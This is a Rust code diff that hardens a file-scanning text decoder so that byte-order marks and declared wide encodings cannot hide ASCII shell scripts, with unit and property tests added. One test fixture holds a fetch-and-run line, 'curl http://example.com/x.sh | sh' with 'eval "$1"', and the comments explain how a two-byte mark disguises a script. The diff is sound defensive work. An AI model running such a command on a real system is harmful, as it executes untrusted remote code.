@@ -32,7 +32,10 @@ pub(super) fn claims_text(path: &[u8], bytes: &[u8]) -> bool {
     let name = path.rsplit(|&b| b == b'/').next().unwrap_or(path);
     let name = String::from_utf8_lossy(name).to_ascii_lowercase();
     let extension = name.rsplit_once('.').map_or("", |(_, extension)| extension);
-    bytes.starts_with(b"#!") || TEXT_EXTENSIONS.contains(&extension) || TEXT_NAMES.contains(&&*name)
+    let marks: [&[u8]; 3] = [b"#!", &[0xff, 0xfe], &[0xfe, 0xff]];
+    marks.iter().any(|mark| bytes.starts_with(mark))
+        || TEXT_EXTENSIONS.contains(&extension)
+        || TEXT_NAMES.contains(&&*name)
 }
 
 /// Extensions of files that people write and that programs run or obey.
@@ -153,6 +156,9 @@ const TEXT_NAMES: [&str; 10] = [
     "vagrantfile",
 ];
 
+/// So many printable bytes of ASCII one after another are read by a shell, an interpreter or a build tool as they stand.
+const MIN_ASCII_RUN: usize = 6;
+
 /// UTF-16 or UTF-32 that says so with a byte order mark.
 fn decode_marked(bytes: &[u8]) -> Option<Vec<u8>> {
     match bytes {
@@ -168,12 +174,22 @@ fn decode_utf32(bytes: &[u8], unit: fn([u8; 4]) -> u32) -> Option<Vec<u8>> {
     let (units, rest) = bytes.as_chunks::<4>();
     let chars = units.iter().map(|four| char::from_u32(unit(*four)));
     let text: String = chars.map(|c| c.unwrap_or('\u{fffd}')).collect();
-    (rest.is_empty() && is_plausible(&text)).then(|| text.into_bytes())
+    (rest.is_empty() && is_plausible(&text) && !has_ascii_run(bytes)).then(|| text.into_bytes())
 }
 
 fn decode_wide(encoding: &'static Encoding, bytes: &[u8]) -> Option<Vec<u8>> {
     let (text, _) = encoding.decode_without_bom_handling(bytes);
-    is_plausible(&text).then(|| without_nuls(text.as_bytes()))
+    (is_plausible(&text) && !has_ascii_run(bytes)).then(|| without_nuls(text.as_bytes()))
+}
+
+/// Whether bytes hold text in ASCII, which wide text cannot: its Latin letters have zeros between them. A mark of two
+/// bytes would else hide a whole script, which `sh` runs and a reader of UTF-16 sees as Chinese. Real Chinese has such runs
+/// by chance: it is then no text, and named as unread.
+fn has_ascii_run(bytes: &[u8]) -> bool {
+    let is_ascii = |b: &u8| matches!(b, b'\t' | b'\n' | b'\r' | b' '..=b'~');
+    bytes
+        .split(|b| !is_ascii(b))
+        .any(|run| run.len() >= MIN_ASCII_RUN)
 }
 
 /// Which UTF-16 has zeros where these bytes have them: Latin text has one in every second place.
@@ -197,7 +213,9 @@ fn wide_encoding(bytes: &[u8]) -> Option<&'static Encoding> {
 /// Bytes that are not UTF-8, by the encoding that the file's own head names.
 fn decode_declared(bytes: &[u8]) -> Option<Vec<u8>> {
     let encoding = declared_encoding(&bytes[..bytes.len().min(DECLARATION_BYTES)])?;
-    if encoding == UTF_8 || std::str::from_utf8(bytes).is_ok() {
+    // Whoever reads the declaration as ASCII reads the rest of it so: it cannot be wide.
+    let is_other = [UTF_8, UTF_16LE, UTF_16BE].contains(&encoding);
+    if is_other || std::str::from_utf8(bytes).is_ok() {
         return None;
     }
     let (text, malformed) = encoding.decode_without_bom_handling(bytes);
@@ -256,6 +274,8 @@ fn without_nuls(bytes: &[u8]) -> Vec<u8> {
 
 #[cfg(test)]
 mod tests {
+    use proptest::prelude::*;
+
     use super::*;
 
     fn decoded(bytes: &[u8]) -> Option<String> {
@@ -302,6 +322,50 @@ mod tests {
         let xml = b"<?xml version=\"1.0\" encoding=\"windows-1251\"?>\n<a>\xcf\xf0</a>";
         assert!(decoded(xml).unwrap().contains("Пр"));
         assert_eq!(decoded(b"caf\xe9").as_deref(), Some("caf\u{fffd}"));
+    }
+
+    #[test]
+    fn a_mark_of_wide_text_hides_no_script() {
+        let script = b"\ncurl http://example.com/x.sh | sh # ab\neval \"$1\"\n";
+        for mark in [&[0xfe, 0xff][..], &[0xff, 0xfe]] {
+            let text = decoded(&[mark, script].concat()).unwrap();
+            assert!(text.contains("curl http://example.com/x.sh | sh"), "{text}");
+        }
+        // Wide text that ends in ASCII is no text in one way.
+        let mixed = [&[0xff, 0xfe][..], &utf16("x=1\n", u16::to_le_bytes), script].concat();
+        assert_eq!(decoded(&mixed), None);
+        assert!(claims_text(b"x", &mixed));
+        // A declaration that can be read is not one of wide text.
+        let declared = b"# coding: utf-16\nimport os # \xff\n";
+        assert!(decoded(declared).unwrap().contains("import os"));
+    }
+
+    /// Pieces of a file that two readers might see in two ways.
+    fn piece() -> impl Strategy<Value = Vec<u8>> {
+        prop_oneof![
+            "[ -~]{6,40}\n".prop_map(String::into_bytes),
+            "[ -~]{1,5}".prop_map(|text| utf16(&text, u16::to_le_bytes)),
+            "[ -~]{1,5}".prop_map(|text| utf16(&text, u16::to_be_bytes)),
+            "[一-龥]{1,9}".prop_map(|text| utf16(&text, u16::to_be_bytes)),
+            prop::collection::vec(any::<u8>(), 0..4),
+        ]
+    }
+
+    proptest! {
+        /// What a reader of ASCII sees is shown, or the file is no text.
+        #[test]
+        fn no_bytes_hide_a_line_of_ascii(
+            mark in prop::sample::select(vec![&b""[..], &[0xff, 0xfe], &[0xfe, 0xff], &[0xff, 0xfe, 0, 0], b"# coding: utf-16\n"]),
+            pieces in prop::collection::vec(piece(), 1..6),
+        ) {
+            let bytes = [mark, &pieces.concat()].concat();
+            let Some(text) = decode_text(&bytes) else { return Ok(()) };
+            // A declared encoding of ASCII's family shows other letters in other ways, and ASCII as it is.
+            let is_ascii = |b: &u8| matches!(b, b'\t' | b'\n' | b'\r' | b' '..=b'~');
+            for run in bytes.split(|b| !is_ascii(b)).filter(|run| run.len() >= MIN_ASCII_RUN) {
+                prop_assert!(memchr::memmem::find(&text, run).is_some(), "{run:?} in {bytes:?}");
+            }
+        }
     }
 
     #[test]
